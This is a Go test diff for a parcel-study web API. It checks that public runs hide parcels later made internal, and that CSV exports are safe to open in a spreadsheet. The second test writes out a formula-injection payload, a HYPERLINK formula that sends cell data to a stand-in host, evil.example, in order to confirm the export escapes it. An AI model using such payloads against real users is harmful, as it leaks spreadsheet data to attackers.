@@ -7,8 +7,10 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"regexp"
 	"strings"
 	"testing"
+	"time"
 )
 
 type runAnswer struct {
@@ -207,5 +209,112 @@ func TestPublicRunsCountPublicParcelsOnly(t *testing.T) {
 	if code, body := a.do(http.MethodPost, "/api/v1/study/runs", a.planner,
 		map[string]any{"title": "x", "audience": "public", "group_by": []string{"ownership"}}); code != http.StatusBadRequest {
 		t.Errorf("a public run grouped by ownership: %d %s", code, body)
+	}
+}
+
+// A stored public run shows the public only what is public now: a parcel set internal after the
+// run leaves its JSON, tables, report and large-site unions, which are computed again without it.
+func TestPublicRunHidesParcelsThatBecameInternal(t *testing.T) {
+	a := newAPI(t)
+	params := map[string]any{"title": "öffentlich", "audience": "public", "as_of": "2026-06-30",
+		"search": map[string]any{"criteria": map[string]any{"min_net_ha": 0.1}}}
+	code, body := a.do(http.MethodPost, "/api/v1/study/runs", a.planner, params)
+	if code != http.StatusCreated {
+		t.Fatalf("create public run: %d %s", code, body)
+	}
+	var run runAnswer
+	if err := json.Unmarshal(body, &run); err != nil {
+		t.Fatal(err)
+	}
+	runPath := "/api/v1/study/runs/" + itoa(run.ID)
+	exports := []string{"", "/large-sites.geojson", "/tables/search.csv", "/tables/large_sites.csv", "/tables/parcels.csv", "/report.html", "/parcels.geojson"}
+	b := itoa(a.fix.Parcels["B"])
+	memberIDs := regexp.MustCompile(`"member_ids":"([^"]* )?` + b + `( [^"]*)?"`)
+	mentions := func(when string) map[string]bool {
+		out := map[string]bool{}
+		for _, e := range exports {
+			code, body := a.do(http.MethodGet, runPath+e, "", nil)
+			if code != http.StatusOK {
+				t.Fatalf("%s: public GET %s: %d %s", when, e, code, body)
+			}
+			s := string(body)
+			out[e] = strings.Contains(s, "Fläche B") || strings.Contains(s, "FIX-B") || strings.Contains(s, "["+b+",") ||
+				strings.Contains(s, ","+b+"]") || strings.Contains(s, `"id":`+b+",") || memberIDs.MatchString(s)
+		}
+		return out
+	}
+	before := mentions("before")
+	for _, e := range []string{"", "/large-sites.geojson", "/tables/search.csv"} {
+		if !before[e] {
+			t.Fatalf("before B is internal, public %s does not show it: the test would prove nothing", e)
+		}
+	}
+	var read runAnswer
+	a.get(runPath, "", &read)
+	if len(read.Results.LargeSites.Sites) != 1 || len(read.Results.LargeSites.Sites[0].MemberIDs) != 2 {
+		t.Fatalf("public run before: large sites %+v, want A+B", read.Results.LargeSites.Sites)
+	}
+
+	if _, err := a.db.Pool.Exec(context.Background(), `UPDATE parcels SET publication = 'internal' WHERE id = $1`, a.fix.Parcels["B"]); err != nil {
+		t.Fatal(err)
+	}
+	for e, shown := range mentions("after") {
+		if shown {
+			t.Errorf("B is internal now, yet the public run's %q shows it", e)
+		}
+	}
+	a.get(runPath, "", &read)
+	if read.Parcels != 7 {
+		t.Errorf("public run after B became internal counts %d parcels, want 7", read.Parcels)
+	}
+	for _, s := range read.Results.LargeSites.Sites {
+		for _, id := range s.MemberIDs {
+			if id == a.fix.Parcels["B"] {
+				t.Errorf("a large site of the public run still merges B: %+v", s)
+			}
+		}
+	}
+	var list struct{ Runs []struct{ Parcels int } }
+	a.get("/api/v1/study/runs", "", &list)
+	if len(list.Runs) != 1 || list.Runs[0].Parcels != 7 {
+		t.Errorf("the public list of runs: %+v, want the run with 7 parcels", list.Runs)
+	}
+	var planner runAnswer
+	a.get(runPath, a.planner, &planner)
+	if planner.Parcels != 7 {
+		t.Errorf("a planner reading the public run sees %d parcels, want the same 7 as the public", planner.Parcels)
+	}
+}
+
+// A parcel named like a spreadsheet formula reaches the public run's CSV tables inert.
+func TestRunTablesAreSafeInASpreadsheet(t *testing.T) {
+	a := newAPI(t)
+	formula := `=HYPERLINK("http://evil.example/?"&A1,"click")`
+	if _, err := a.db.Pool.Exec(context.Background(), `UPDATE parcels SET name = $2 WHERE id = $1`, a.fix.Parcels["A"], formula); err != nil {
+		t.Fatal(err)
+	}
+	params := map[string]any{"title": "öffentlich", "audience": "public", "as_of": time.Now().Format(time.DateOnly),
+		"search": map[string]any{"criteria": map[string]any{"min_net_ha": 0.1}}}
+	code, body := a.do(http.MethodPost, "/api/v1/study/runs", a.planner, params)
+	if code != http.StatusCreated {
+		t.Fatalf("create public run: %d %s", code, body)
+	}
+	var run runAnswer
+	if err := json.Unmarshal(body, &run); err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, table := range []string{"search", "parcels"} {
+		for _, row := range a.csvTable("/api/v1/study/runs/"+itoa(run.ID)+"/tables/"+table+".csv", "") {
+			for _, cell := range row {
+				if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "+") || strings.HasPrefix(cell, "@") {
+					t.Errorf("%s.csv has the cell %q, which a spreadsheet runs as a formula", table, cell)
+				}
+				found = found || cell == "'"+formula
+			}
+		}
+	}
+	if !found {
+		t.Error("the parcel's name is in no table, escaped as '=HYPERLINK(...)")
 	}
 }
